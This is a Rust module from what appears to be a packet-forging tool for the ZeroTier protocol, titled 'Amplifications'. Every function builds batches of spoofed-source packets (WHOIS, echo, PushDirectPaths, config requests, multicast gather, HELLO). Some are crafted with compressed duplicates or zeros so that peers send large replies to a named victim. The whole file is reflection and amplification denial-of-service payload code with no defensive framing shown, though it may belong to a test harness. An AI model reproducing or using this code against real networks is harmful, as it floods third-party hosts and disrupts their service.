//! Amplifications: small questions in the name of somebody else, who gets the answers.

use zt_crypto::Suite;
use zt_wire::verb::{Echo, MulticastGather, NetworkConfigRequest, PathRecord, PushDirectPaths, Whois};
use zt_wire::{InetAddress, Mac, MulticastGroup};

use super::packets::{Forge, Mask};
use super::scene::{FORGED, FORGED_BLOCK};
use super::sender::{Load, Sources};

const VARIETY: usize = 256;

fn load(forge: &mut Forge, mut make: impl FnMut(&mut Forge, &Mask, usize) -> Vec<u8>) -> Load {
    let mask = forge.mask(0);
    let packets = (0..VARIETY).map(|n| make(forge, &mask, n)).collect();
    Load::new(packets, Sources::Forged)
}

/// Everybody whom the victim knows.
pub(super) fn whois(forge: &mut Forge, _: usize) -> Load {
    load(forge, |forge, mask, _| {
        let body = Whois { addresses: forge.others.clone(), rest: &[] };
        forge.sealed(mask, Suite::Salsa2012Poly1305, &body)
    })
}

/// One address two thousand times, which compresses well.
pub(super) fn whois_duplicates(forge: &mut Forge, _: usize) -> Load {
    load(forge, |forge, mask, _| {
        let body = Whois { addresses: vec![forge.victim.address; 1_900], rest: &[] };
        forge.compressed(mask, &body)
    })
}

/// Nothing but zeros, compressed.
pub(super) fn echo_zeros(forge: &mut Forge, _: usize) -> Load {
    load(forge, |forge, mask, _| forge.compressed(mask, &Echo { data: &[0; 9_000] }))
}

/// Eight addresses of others to be probed.
pub(super) fn push(forge: &mut Forge, _: usize) -> Load {
    load(forge, |forge, mask, n| {
        let [a, b, ..] = FORGED_BLOCK;
        let remote = |k: usize| std::net::SocketAddr::from(([a, b, n as u8, k as u8 + 1], 9993));
        let records = (0..8).map(|k| PathRecord::from(InetAddress::from(remote(k)))).collect();
        forge.compressed(mask, &PushDirectPaths { records, missing: 0, rest: &[] })
    })
}

/// The configuration of a network.
pub(super) fn config_request(forge: &mut Forge, _: usize) -> Load {
    load(forge, |forge, mask, _| {
        let network = forge.network;
        let body = NetworkConfigRequest { network, metadata: Some(b"revr=1\n"), ..NetworkConfigRequest::default() };
        forge.sealed(mask, Suite::Salsa2012Poly1305, &body)
    })
}

/// Members of a group.
pub(super) fn gather(forge: &mut Forge, _: usize) -> Load {
    load(forge, |forge, mask, _| {
        let group = MulticastGroup { mac: Mac([0xff; 6]), adi: 0 };
        let body = MulticastGather { network: forge.network, group, limit: 1_000, ..MulticastGather::default() };
        forge.sealed(mask, Suite::Salsa2012Poly1305, &body)
    })
}

/// HELLOs, which are answered with all worlds that the sender does not have.
pub(super) fn hello(forge: &mut Forge, _: usize) -> Load {
    debug_assert_eq!(FORGED.octets()[..2], FORGED_BLOCK[..2]);
    load(forge, |forge, mask, _| {
        let identity = *mask.secret.identity();
        forge.hello(mask, identity)
    })
}
